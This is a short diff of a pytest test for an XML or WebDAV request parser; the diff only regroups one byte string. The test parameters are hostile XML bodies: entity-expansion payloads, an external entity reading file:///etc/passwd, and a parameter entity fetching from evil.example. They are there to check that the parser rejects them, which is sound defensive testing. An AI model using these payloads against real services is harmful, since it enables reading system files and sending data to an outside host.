@@ -141,8 +141,8 @@ def test_overwrite_and_timeout_headers() -> None:
 
 @pytest.mark.parametrize("body", [
     b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaa">]><propfind xmlns="DAV:"/>',
-    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>'
-    b'<lolz>&lol2;</lolz>',
+    (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>'
+     b'<lolz>&lol2;</lolz>'),
     b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>',
     b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><x/>',
 ])
